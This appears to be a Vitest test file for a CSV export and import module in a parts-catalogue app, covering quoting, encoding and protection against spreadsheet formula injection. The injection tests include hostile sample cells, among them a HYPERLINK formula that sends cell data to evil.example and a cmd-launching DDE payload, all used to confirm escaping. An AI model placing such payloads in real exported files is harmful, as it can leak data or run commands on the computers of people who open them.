import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { StoredPart } from '../../store/types';
import { CSV_COLUMNS, decodeCsv, parseCsv, partsToCsv } from './csv-format';

const part: StoredPart = {
  id: 'p1',
  version: 3,
  codigo: 'ELE-CT-0101',
  nome_pt: 'Contator; trifásico "9A"',
  nome_en: 'Three-phase contactor',
  nome_es: 'Contactor trifásico',
  descricao_pt: 'Linha 1\nLinha 2',
  descricao_en: 'Line',
  descricao_es: 'Línea',
  categoria: 'Elétrica',
  preco: 1234.5,
  estoque: 12,
  imagem: 'abc.webp',
} as StoredPart;

describe('partsToCsv', () => {
  it('writes a BOM, a `;` header and Excel-friendly decimal commas', () => {
    const csv = partsToCsv([part]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header] = csv.slice(1).split('\r\n');
    expect(header).toBe(CSV_COLUMNS.join(';'));
    // The decimal comma is quoted: a spreadsheet reading commas as delimiters keeps one cell.
    expect(csv).toContain(';"1234,50";12');
  });

  it('round-trips quotes, separators and line breaks through parseCsv', () => {
    const parsed = parseCsv(decodeCsv(Buffer.from(partsToCsv([part]), 'utf8')));
    expect(parsed).toMatchObject({ ok: true });
    if (!parsed.ok) return;
    expect(parsed.rows).toHaveLength(1);
    expect(parsed.rows[0]?.line).toBe(2);
    expect(parsed.rows[0]?.fields).toMatchObject({
      codigo: 'ELE-CT-0101',
      nome_pt: 'Contator; trifásico "9A"',
      descricao_pt: 'Linha 1\nLinha 2',
      preco: '1234,50',
    });
  });
});

describe('formula cells (CSV injection)', () => {
  const hostile = {
    ...part,
    codigo: '-A1',
    nome_pt: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
    nome_en: "+cmd|' /C calc'!A0",
    nome_es: "'=já com apóstrofo",
    descricao_pt: '- começa com um traço',
    descricao_en: '@SUM(1+1)',
    descricao_es: '\t=1+1',
  } as StoredPart;

  it('exports every cell that would open as a formula behind an apostrophe', () => {
    const csv = partsToCsv([hostile]);
    const [, line] = csv.slice(1).split('\r\n');
    expect(line).toBe(
      [
        "'-A1",
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
        "'+cmd|' /C calc'!A0",
        "''=já com apóstrofo",
        "'- começa com um traço",
        "'@SUM(1+1)",
        "'\t=1+1",
        'Elétrica',
        '"1234,50"',
        '12',
      ].join(';'),
    );
  });

  it('reads the exported cells back exactly as they were stored', () => {
    const parsed = parseCsv(decodeCsv(Buffer.from(partsToCsv([hostile]), 'utf8')));
    expect(parsed).toMatchObject({ ok: true });
    if (!parsed.ok) return;
    // The parser trims a leading tab, but behind the apostrophe the tab is inside the cell.
    expect(parsed.rows[0]?.fields).toEqual({
      codigo: '-A1',
      nome_pt: hostile.nome_pt,
      nome_en: hostile.nome_en,
      nome_es: hostile.nome_es,
      descricao_pt: hostile.descricao_pt,
      descricao_en: hostile.descricao_en,
      descricao_es: '\t=1+1',
      categoria: 'Elétrica',
      preco: '1234,50',
      estoque: '12',
    });
  });

  it('keeps an apostrophe typed before ordinary text', () => {
    const parsed = parseCsv(`${CSV_COLUMNS.join(';')}\n'A-1;'abc;b;c;d;e;f;Mecânica;1;1\n`);
    expect(parsed).toMatchObject({
      ok: true,
      rows: [{ fields: { codigo: "'A-1", nome_pt: "'abc" } }],
    });
  });
});

describe('decodeCsv', () => {
  it('reads UTF-8 and falls back to Windows-1252 as older Excel saves it', () => {
    expect(decodeCsv(Buffer.from('Mecânica', 'utf8'))).toBe('Mecânica');
    expect(decodeCsv(Buffer.from([0x4d, 0x65, 0x63, 0xe2, 0x6e, 0x69, 0x63, 0x61]))).toBe(
      'Mecânica',
    );
  });
});

describe('parseCsv', () => {
  const header = CSV_COLUMNS.join(',');

  it('accepts a comma-separated file and trims header names', () => {
    const parsed = parseCsv(`${header.toUpperCase()}\nA-1,a,b,c,d,e,f,Mecânica,10,1\n`);
    expect(parsed).toMatchObject({ ok: true, rows: [{ line: 2, fields: { codigo: 'A-1' } }] });
  });

  it('names the missing columns', () => {
    expect(parseCsv('codigo;nome_pt\nA;b\n')).toEqual({
      ok: false,
      error:
        'Faltam colunas no arquivo: nome_en, nome_es, descricao_pt, descricao_en, descricao_es, categoria.',
    });
  });

  it('refuses a file without parts and a broken quote', () => {
    expect(parseCsv(`${header}\n`)).toEqual({
      ok: false,
      error: 'O arquivo CSV não tem nenhuma peça.',
    });
    const broken = parseCsv(`${header}\n"A-1,a,b,c,d,e,f,Mecânica,10,1\n`);
    expect(broken.ok).toBe(false);
    if (!broken.ok) expect(broken.error).toMatch(/^O arquivo CSV não pôde ser lido/);
  });
});

// Issue 38: csv-stringify left these unquoted (`record_delimiter` turns `quote_record_delimiter`
// off; a comma is no delimiter in a `;` file), so a spreadsheet split the cell and the part
// after the break or comma opened as a formula.
describe('line breaks and commas inside cells', () => {
  const splitting = {
    ...part,
    codigo: 'ELE-LB-1',
    nome_pt: 'ok\n=1+1',
    nome_en: 'x,=HYPERLINK("http://evil.example")',
    nome_es: 'a\r\n@SUM(1)',
    descricao_pt: 'carriage\r+1',
    descricao_en: 'quote " and ; both',
    descricao_es: ',-2',
  } as StoredPart;

  it('quotes fields with breaks and commas, so none splits into a cell that starts like a formula', () => {
    const csv = partsToCsv([splitting]);
    // Read with `;`, the data row is exactly one record of the ten columns, none a formula.
    const records = parse(csv, { bom: true, delimiter: ';' }) as string[][];
    expect(records).toHaveLength(2);
    expect(records[1]).toHaveLength(CSV_COLUMNS.length);
    expect(records.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    // Outside the quotes there is nothing but the `;` between fields and the CRLF after each
    // row: no comma a comma-locale spreadsheet would split on, no other line break.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '""');
    const rows = unquoted.slice(1).split('\r\n');
    expect(rows).toHaveLength(3);
    expect(rows[2]).toBe('');
    for (const row of rows) expect(row).not.toMatch(/[,\r\n]/);
  });

  it('round-trips the line breaks and commas through parseCsv', () => {
    const parsed = parseCsv(decodeCsv(Buffer.from(partsToCsv([splitting]), 'utf8')));
    expect(parsed).toMatchObject({ ok: true });
    if (!parsed.ok) return;
    expect(parsed.rows).toHaveLength(1);
    expect(parsed.rows[0]?.fields).toMatchObject({
      codigo: 'ELE-LB-1',
      nome_pt: 'ok\n=1+1',
      nome_en: 'x,=HYPERLINK("http://evil.example")',
      nome_es: 'a\r\n@SUM(1)',
      descricao_pt: 'carriage\r+1',
      descricao_en: 'quote " and ; both',
      descricao_es: ',-2',
    });
  });
});
